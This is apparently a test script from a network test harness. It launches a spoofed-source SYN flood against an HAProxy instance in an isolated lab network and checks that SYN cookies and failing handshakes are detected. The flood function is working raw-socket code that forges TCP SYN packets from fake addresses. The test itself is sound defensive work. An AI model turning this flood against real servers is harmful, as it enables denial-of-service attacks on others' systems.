#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""SYNs from forged addresses fill the queue of a proxy, which goes on with SYN cookies; a few real clients get
through."""
import os
import socket
import struct
import time

from harness import Finding, main

FORGED = 300
BACKLOG = 16


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def flood(target, port):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(FORGED):
        source, destination = socket.inet_aton(f"10.90.{4 + i % 3}.{1 + i % 250}"), socket.inet_aton(target)
        syn = struct.pack("!HHIIBBHHH", 20000 + i, port, 1000 * i, 0, 5 << 4, 2, 64000, 0, 0)
        pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(syn))
        syn = syn[:16] + struct.pack("!H", checksum(pseudo + syn)) + syn[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
        raw.sendto(ip + syn, (target, 0))
        time.sleep(0.001)


def perform(stage):
    attacker = stage.new_net()
    stage.link("10.90.0.1/16", attacker, "10.90.0.2/16")
    stage.haproxy(f"""
listen web
  bind 10.90.0.1:8120 backlog {BACKLOG}
  mode http
  http-request return status 200""")
    stage.await_listener(8120)
    trace = stage.trace()
    flood_pid = stage.fork("attacker", flood, "10.90.0.1", 8120, net=attacker)
    for _ in range(5):
        stage.run("curl", "-sS", "-o", "/dev/null", "http://10.90.0.1:8120/", net=attacker)
        time.sleep(0.1)
    os.waitpid(flood_pid, 0)
    time.sleep(0.2)
    trace.expect(Finding("handshakes_failing", what=["haproxy", "10.90.0.1:8120"],
                         cookies_sent=range(FORGED - 3 * BACKLOG, FORGED + 10)))


main(perform)
